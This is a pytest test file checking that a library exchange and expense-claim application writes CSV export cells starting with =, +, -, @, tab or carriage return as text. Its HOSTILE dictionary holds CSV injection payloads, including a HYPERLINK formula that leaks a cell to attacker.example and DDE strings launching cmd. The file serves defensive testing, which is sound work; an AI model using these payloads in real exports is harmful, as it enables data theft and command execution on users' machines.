"""Every CSV export opens in Excel or LibreOffice as data: a cell that would start a formula
(=, +, -, @, a tab or a carriage return) is written as text (OWASP: CSV injection)."""

import csv
import io
from datetime import date

import pytest

from libraries.csv_export import as_text
from tests.factories import ExpenseClaimFactory, LibraryFactory, StaffFactory
from tests.pages import admin_url

pytestmark = pytest.mark.django_db

HOSTILE = {
    '=HYPERLINK("http://attacker.example/?"&A1;"Click")': "'=HYPERLINK",
    "+cmd|' /C calc'!A0": "'+cmd",
    "-2+3+cmd|' /C calc'!A0": "'-2+3",
    "@SUM(1+9)*cmd|' /C calc'!A0": "'@SUM",
    "\t=1+1": "'\t=1+1",
    "\r=1+1": "'\r=1+1",
}


def _rows(response) -> list[list[str]]:
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))


def _no_cell_starts_a_formula(rows) -> None:
    for row in rows:
        for cell in row:
            assert not cell.startswith(("=", "+", "@", "\t", "\r")), cell
            assert not cell.startswith("-") or cell.replace(",", "").lstrip("-").isdigit(), cell


@pytest.mark.parametrize("written", list(HOSTILE))
def test_a_cell_that_would_start_a_formula_is_written_as_text(written):
    assert as_text(written).startswith(HOSTILE[written])
    assert as_text(written) == "'" + written


@pytest.mark.parametrize("plain", ["Alice Aalto", "-12,50", "-3", "120", "", "a=b", "Ö+Ä"])
def test_names_and_plain_numbers_stay_as_they_are(plain):
    assert as_text(plain) == plain


@pytest.fixture
def hostile_claims():
    """Visitors whose names and travel descriptions each begin like a formula."""
    host = LibraryFactory(name_fi="@Kirjasto", name_sv="@Bibliotek")
    claims = []
    for day, written in enumerate(HOSTILE, start=1):
        visitor = StaffFactory(name=written.strip("\t\r"))
        claims.append(
            ExpenseClaimFactory(
                exchange__visitor=visitor,
                exchange__host_library=host,
                exchange__first_day=date(2026, 3, day),
                exchange__last_day=date(2026, 3, day),
                state="approved",
                other_travel_eur="5.00",
                other_travel_description=written,
            )
        )
    return claims


def test_the_exchange_export_neutralises_names_that_start_a_formula(
    coordinator_client, hostile_claims
):
    rows = _rows(coordinator_client.get(admin_url("exchange_exchangerequest_export_csv")))

    header, *data = rows
    visitors = {row[header.index("vierailija")] for row in data}
    assert '\'=HYPERLINK("http://attacker.example/?"&A1;"Click")' in visitors
    assert "'+cmd|' /C calc'!A0" in visitors
    assert {row[header.index("vastaanottava kirjasto")] for row in data} == {"'@Kirjasto"}
    _no_cell_starts_a_formula(data)


def test_the_claim_exports_neutralise_travel_descriptions_that_start_a_formula(
    coordinator_client, hostile_claims
):
    selected = [claim.pk for claim in hostile_claims]
    exports = [
        coordinator_client.get(admin_url("feedback_expenseclaim_export_approved")),
        coordinator_client.post(
            admin_url("feedback_expenseclaim_changelist"),
            {"action": "export_selected_csv", "_selected_action": selected},
        ),
    ]

    for response in exports:
        header, *data = _rows(response)
        assert len(data) == len(HOSTILE)
        described = {row[header.index("mitä muut matkakulut olivat")] for row in data}
        assert described == {"'" + written for written in HOSTILE}
        _no_cell_starts_a_formula(data)


def test_the_statistics_export_neutralises_a_region_named_like_a_formula(
    coordinator_client, hostile_claims
):
    region = hostile_claims[0].exchange.host_library.municipality.region
    region.name_fi = "=1+1"
    region.save()

    rows = _rows(
        coordinator_client.get(admin_url("feedback_yearstatistics_csv", query="year=2026"))
    )

    assert any(cell.startswith("'=1+1") for row in rows for cell in row)
    _no_cell_starts_a_formula(rows[1:])
